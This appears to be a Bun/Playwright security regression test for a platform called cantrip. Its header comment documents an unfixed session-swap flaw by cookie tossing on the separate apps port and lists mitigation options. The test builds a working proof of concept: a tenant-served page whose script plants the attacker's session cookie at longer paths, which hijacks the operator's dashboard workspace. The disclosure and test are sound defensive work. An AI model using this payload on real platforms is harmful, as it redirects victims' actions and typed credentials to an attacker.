/**
 * BREAK (threat model, promise 4), not fixed here: session swap by cookie tossing. With
 * CANTRIP_APPS_PORT (the documented "separate apps port" setup) apps run on the same host
 * as the platform, and cookies ignore ports. A hostile tenant signs in with its own token,
 * keeps the `cantrip_session` value, and serves a public page whose script sets
 * `cantrip_session=<that value>; path=/v1/` (and `/api/v1/`). JS may not overwrite the
 * operator's HttpOnly cookie at /v1, but a longer path is a separate cookie that Chromium
 * sends first; `sessionCookieOf` (src/http/auth.ts) takes it, GET /v1/session hands the
 * dashboard the attacker session's CSRF token, and from then on the operator's dashboard
 * silently acts in the attacker's workspace (credentials the operator types in go to the
 * attacker). Measured with this test on main in Chromium: the session's workspace was the
 * operator's before the visit and the attacker's after it. The sandboxed default (apps on
 * the platform's port) is not affected: an opaque origin cannot write cookies.
 * Options for the lead: refuse a request that carries more than one session cookie (turns
 * the swap into a sign-out the victim must clear by hand), `__Host-` cookies (https only,
 * Path=/), or requiring CANTRIP_APPS_DOMAIN on another site whenever apps get their own
 * listener. Run with `bun test --todo`.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync } from "node:fs";
import { join } from "node:path";
import type { Browser } from "playwright-core";
import { createWorkspace } from "../../src/auth";
import { openDatabase } from "../../src/db";
import { startServer, type TestServer } from "../harness";
import { deploy, type Target } from "../reliability/host-helpers";

const CHROMIUM = "/usr/bin/chromium";

describe.skipIf(!existsSync(CHROMIUM))("a tenant's page on the apps port plants its own session cookie", () => {
  let s: TestServer;
  let browser: Browser;
  let attackerWs: string;
  let appsBase: string;
  beforeAll(async () => {
    s = await startServer({ CANTRIP_APPS_PORT: "0" });
    const opened = openDatabase(join(s.dataDir, "cantrip.db"));
    let attackerToken: string;
    try {
      const w = createWorkspace(opened.db, "attacker");
      attackerWs = w.workspaceId;
      attackerToken = w.token.token;
    } finally {
      opened.close();
    }
    // The attacker signs in with its own token and keeps the session cookie's value.
    const signIn = await fetch(s.url + "/v1/session", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ token: attackerToken }) });
    const value = signIn.headers.getSetCookie()[0]!.split(";")[0]!.split("=").slice(1).join("=");
    const page = `<!doctype html><script>document.cookie = "cantrip_session=${value}; path=/v1/"; document.cookie = "cantrip_session=${value}; path=/api/v1/"; document.title = "tossed";</script>`;
    const code = `import { defineBackend } from "cantrip";
export default defineBackend({ routes: { "GET /": () => new Response(${JSON.stringify(page)}, { headers: { "content-type": "text/html" } }) } });`;
    await deploy({ url: s.url, token: attackerToken }, "toss", code, { public: true });
    appsBase = s.app.appsUrl!.replace(/\/$/, "");
    const { chromium } = await import("playwright-core");
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"] });
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await s?.stop();
  });

  test.todo("after the operator visits the attacker's app, the dashboard still acts in the operator's workspace", async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(s.url + "/");
    await page.getByLabel("Platform token").fill(s.token);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.getByRole("heading", { name: "Agents" }).waitFor();
    const before = await page.evaluate(async () => (await (await fetch("/v1/session")).json()).data.workspaceId);
    await page.goto(`${appsBase}/apps/toss/`);
    await page.waitForFunction(() => document.title === "tossed");
    await page.goto(s.url + "/");
    const after = await page.evaluate(async () => (await (await fetch("/v1/session")).json()).data.workspaceId);
    expect(before).not.toBe(attackerWs);
    expect(after).toBe(before);
    await context.close();
  }, 60_000);
});
